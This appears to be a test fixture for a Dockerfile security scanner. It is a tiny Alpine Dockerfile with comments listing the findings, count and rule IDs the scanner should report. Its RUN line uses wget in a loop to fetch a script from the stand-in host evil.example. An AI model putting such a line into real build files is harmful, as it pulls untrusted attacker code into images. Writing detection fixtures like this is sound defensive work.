FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN while read u; do wget $u; done <<EOF
https://evil.example/x.sh
EOF
USER app
# expect: download 2 high "wget fetches ${u}"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-0d2cdea134 VR501-e064bac1a6
